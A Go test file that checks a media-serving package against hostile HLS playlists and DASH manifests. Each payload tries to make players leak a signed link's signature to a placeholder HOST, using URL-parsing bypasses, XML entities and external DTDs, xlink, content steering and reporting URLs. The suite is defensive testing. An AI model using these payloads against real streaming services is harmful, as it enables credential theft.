package browser

import (
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
)

// stranger is another host, which a playlist can lead players to. It takes
// every request, and serves parts of the film.
type stranger struct {
	host string

	mu   sync.Mutex
	seen []string // everything that was sent: targets, headers, bodies
}

func startStranger(t *testing.T, dir string) *stranger {
	t.Helper()
	s := &stranger{}
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		s.mu.Lock()
		s.seen = append(s.seen, fmt.Sprint(r.Method, " ", r.RequestURI, " ", r.Header, " ", string(body)))
		s.mu.Unlock()
		w.Header().Set("Access-Control-Allow-Origin", "*")
		w.Header().Set("Access-Control-Allow-Headers", "*")
		switch path := r.URL.Path; {
		case strings.HasSuffix(path, ".ts"):
			http.ServeFile(w, r, filepath.Join(dir, "ts-0.ts"))
		case strings.HasSuffix(path, "steer"):
			w.Header().Set("Content-Type", "application/json")
			fmt.Fprintf(w, `{ "VERSION": 1, "TTL": 300, "PATHWAY-PRIORITY": ["clone", "a"], "SERVICE-LOCATION-PRIORITY": ["clone", "a"],
				"PATHWAY-CLONES": [{ "BASE-ID": "a", "ID": "clone", "URI-REPLACEMENT": { "HOST": %[1]q } }] }`, r.Host)
		default:
			http.NotFound(w, r)
		}
	}))
	t.Cleanup(server.Close)
	s.host = strings.TrimPrefix(server.URL, "http://")
	return s
}

// heard returns what was sent since it was last called.
func (s *stranger) heard() []string {
	s.mu.Lock()
	defer s.mu.Unlock()
	seen := s.seen
	s.seen = nil
	return seen
}

// hls returns a playlist with some lines before its one segment.
func hls(lines ...string) string {
	return "#EXTM3U\n#EXT-X-VERSION:11\n#EXT-X-TARGETDURATION:1\n#EXT-X-PLAYLIST-TYPE:VOD\n" + strings.Join(lines, "\n") + "\n#EXTINF:1,\nts-0.ts\n#EXT-X-ENDLIST\n"
}

// master returns a playlist of one rendition with some lines before it.
func master(rendition string, lines ...string) string {
	return "#EXTM3U\n#EXT-X-VERSION:11\n" + strings.Join(lines, "\n") + "\n#EXT-X-STREAM-INF:BANDWIDTH=200000,PATHWAY-ID=\"a\",AUDIO=\"s\"\n" + rendition + "\n"
}

// mpd returns a manifest of one representation.
func mpd(head, representation string) string {
	if !strings.Contains(representation, "<Segment") {
		representation += `<SegmentTemplate timescale="1" duration="1" initialization="init-$RepresentationID$.m4s" media="part-$RepresentationID$-$Number%05d$.m4s" startNumber="1"/>`
	}
	if !strings.HasPrefix(representation, "<Representation") {
		representation = `<Representation id="1" bandwidth="100000">` + representation
	}
	return strings.Replace(`<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:up="urn:mpeg:dash:schema:urlparam:2014"
	xmlns:dvb="urn:dvb:dash:dash-extensions:2014-1" profiles="urn:mpeg:dash:profile:isoff-live:2011" type="static" mediaPresentationDuration="PT4S" minBufferTime="PT1S">
	HEAD<Period><AdaptationSet contentType="video" mimeType="video/mp4" codecs="avc1.42c00d" segmentAlignment="true">`, "HEAD", head, 1) +
		representation + "</Representation></AdaptationSet></Period></MPD>"
}

// hostile is a playlist that wants to have the signature sent to a stranger's
// host, which stands in it as HOST.
type hostile struct {
	name, text string
	players    []string // of which one asks the stranger, if followed
	followed   bool
	refused    bool // by the server, where the signature could be at risk
}

func hostilePlaylists() []hostile {
	var references []string
	for i, ref := range []string{
		"//HOST/", `\\HOST\`, `/\HOST/`, "/\t/HOST/", " //HOST/", "http://HOST/", `http:\\HOST/`, "HTTP://HOST/", "//x@HOST/",
		"http:/HOST/", "https:/HOST/", "%2F%2FHOST/", "..//HOST/", "x/../..//HOST/", "?//HOST/",
	} {
		references = append(references, "#EXT-X-DISCONTINUITY", "#EXTINF:1,", fmt.Sprint(ref, i, ".ts"))
	}
	scripts := []string{"hls.js", "shaka"}
	all := append(scripts, "browser", "video.js")
	dash := []string{"dash.js", "shaka"}
	const (
		queryInfo = `<EssentialProperty schemeIdUri="urn:mpeg:dash:urlparam:20YEAR"><up:INFO queryTemplate="$querypart$" useMPDUrlQuery="true"/></EssentialProperty>`
		report    = `<Reporting schemeIdUri="urn:dvb:dash:reporting:2014" value="1" dvb:reportingUrl="http://HOST/report" dvb:probability="1000"/>`
		numbers   = `<SegmentTemplate timescale="1" duration="1" initialization="$RepresentationID$.m4s" media="$RepresentationID$-$Number$.m4s"/>`
		list      = `<SegmentList timescale="1" duration="1"><Initialization sourceURL="init-1.m4s"/><SegmentURL media="http://HOST/1.m4s"/><SegmentURL media="part-1-00002.m4s"/></SegmentList>`
		cmcd      = `<ServiceDescription><ClientDataReporting><CMCDParameters schemeIdUri="urn:mpeg:dash:cta-5004:2023" version="1" mode="query" includeInRequests="segment mpd" keys="nor nrr sid cid url"/></ClientDataReporting></ServiceDescription>`
	)
	return []hostile{
		{"references.m3u8", hls(references...), all, true, false},
		{"data.m3u8", hls("#EXTINF:1,", "data:video/mp2t;base64,AAAA"), scripts, false, false},
		{"key.m3u8", hls(`#EXT-X-KEY:METHOD=AES-128,URI="//HOST/a.key"`), scripts, true, false},
		{"map.m3u8", hls(`#EXT-X-MAP:URI="//HOST/init.m4s"`), scripts, true, false},
		{"variant.m3u8", master("//HOST/a.m3u8"), all, true, false},
		{"rendition.m3u8", master("large.m3u8", `#EXT-X-MEDIA:TYPE=AUDIO,GROUP-ID="s",NAME="a",DEFAULT=YES,URI="//HOST/a.m3u8"`), scripts, true, false},
		{"interstitial.m3u8", hls(`#EXT-X-PROGRAM-DATE-TIME:2026-01-01T00:00:00Z`,
			`#EXT-X-DATERANGE:ID="a",CLASS="com.apple.hls.interstitial",START-DATE="2026-01-01T00:00:00Z",DURATION=1,X-ASSET-URI="//HOST/a.m3u8"`), scripts, true, false},
		{"steering.m3u8", master("ts.m3u8", `#EXT-X-CONTENT-STEERING:SERVER-URI="http://HOST/steer",PATHWAY-ID="a"`), all, true, false},
		// A variable makes a reference out of harmless parts.
		{"name.m3u8", hls(`#EXT-X-DEFINE:NAME="h",VALUE="//HOST"`, "#EXTINF:1,", "{$h}/1.ts"), scripts, true, false},
		{"parts.m3u8", hls(`#EXT-X-DEFINE:NAME="s",VALUE="/"`, "#EXTINF:1,", "{$s}{$s}HOST/1.ts"), scripts, true, false},
		// A playlist may ask for the parameters by which it was opened.
		{"query.m3u8", hls(`#EXT-X-DEFINE:QUERYPARAM="signature"`, "#EXTINF:1,", "//HOST/1.ts?{$signature}"), all, true, true},
		{"query-of-master.m3u8", master("//HOST/a.m3u8?{$signature}", `#EXT-X-DEFINE:QUERYPARAM="signature"`), scripts, true, true},

		{"base.mpd", mpd("<BaseURL>http://HOST/</BaseURL>", ""), dash, true, false},
		{"deep-base.mpd", mpd("", "<BaseURL>http://HOST/</BaseURL>"), dash, true, false},
		{"slashes.mpd", mpd("<BaseURL>//HOST/</BaseURL>", ""), dash, true, false},
		{"backslashes.mpd", mpd(`<BaseURL>\\HOST\</BaseURL>`, ""), dash, true, false},
		{"comment.mpd", mpd("<BaseURL>/<!-- -->/HOST/</BaseURL>", ""), dash, true, false},
		{"cdata.mpd", mpd("<BaseURL><![CDATA[//HOST/]]></BaseURL>", ""), dash, true, false},
		{"characters.mpd", mpd("<BaseURL>&#x2f;&#47;HOST/</BaseURL>", ""), dash, true, false},
		{"tab.mpd", mpd("<BaseURL>/&#9;/HOST/</BaseURL>", ""), dash, true, false},
		{"entity.mpd", `<!DOCTYPE MPD [<!ENTITY b "http://HOST/">]>` + mpd("<BaseURL>&b;</BaseURL>", ""), dash, false, true},
		{"external.mpd", `<!DOCTYPE MPD SYSTEM "http://HOST/dtd">` + mpd("", ""), dash, false, true},
		{"location.mpd", mpd("<Location>http://HOST/a.mpd</Location>", ""), dash, true, false},
		{"xlink.mpd", mpd(`<Period xlink:href="http://HOST/period.xml" xlink:actuate="onLoad"/>`, ""), dash, true, true},
		{"steering.mpd", mpd(`<BaseURL serviceLocation="a">./</BaseURL><ContentSteering defaultServiceLocation="a" queryBeforeStart="true">http://HOST/steer</ContentSteering>`, ""), dash, true, false},
		{"id.mpd", mpd("", `<Representation id="//HOST/1" bandwidth="100000">`+numbers), dash, true, false},
		{"query.mpd", mpd("", "<BaseURL>http://HOST/</BaseURL>"+strings.NewReplacer("YEAR", "14", "INFO", "UrlQueryInfo").Replace(queryInfo)), dash, true, true},
		{"query-to-all.mpd", mpd("", "<BaseURL>http://HOST/</BaseURL>"+strings.NewReplacer("YEAR", "16", "INFO", `ExtUrlQueryInfo includeInRequests="segment"`).Replace(queryInfo)), dash, true, true},
		{"report.mpd", mpd(`<Metrics metrics="DVBErrors">`+report+`</Metrics>`, strings.ReplaceAll(numbers, `"$R`, `"none-$R`)), dash, true, true},
		{"cmcd.mpd", mpd(cmcd, list), dash, true, true},
	}
}

// Whatever a stranger wrote into a playlist, no other host gets to know the
// signature of the link to the directory by which the playlist was opened.
func TestHostilePlaylistsHandNothingOn(t *testing.T) {
	t.Parallel()
	dir, err := film()
	if err != nil {
		t.Fatal(err)
	}
	s := startStranger(t, dir)
	p := startPlaying(t, dir, "-playlists")
	tab := startPlayer(t)
	for _, h := range hostilePlaylists() {
		if err := os.WriteFile(filepath.Join(dir, h.name), []byte(strings.ReplaceAll(h.text, "HOST", s.host)), 0o644); err != nil {
			t.Fatal(err)
		}
		t.Run(h.name, func(t *testing.T) {
			followed := false
			for _, player := range h.players {
				link := p.link(t, h.name, "10m")
				_, signature, _ := strings.Cut(link, "&signature=")
				p.asked()
				play(t, tab, p.own, player, link, "&patience=1500")
				if asked := p.asked(); len(asked) == 0 || (asked[0].Status == 404) != h.refused {
					t.Errorf("%s: %+v; want it refused: %t", player, asked, h.refused)
				}
				for _, sent := range s.heard() {
					followed = true
					for _, secret := range []string{"expires_at=", "signed_", "signature=", signature} {
						if strings.Contains(sent, secret) {
							t.Errorf("from %s, the stranger got %s in %s", player, secret, sent)
						}
					}
				}
			}
			// By a link to itself alone, it is served as it is, and a player does what it says.
			for _, player := range h.players {
				if followed || !h.refused {
					break
				}
				play(t, tab, p.own, player, p.run(t, "link", "-key-file", p.keys, "-base-url", p.own+"/files/", h.name), "&patience=1500")
				followed = len(s.heard()) > 0
			}
			if followed != h.followed {
				t.Errorf("a player asked the stranger: %t, want %t", followed, h.followed)
			}
		})
	}
}
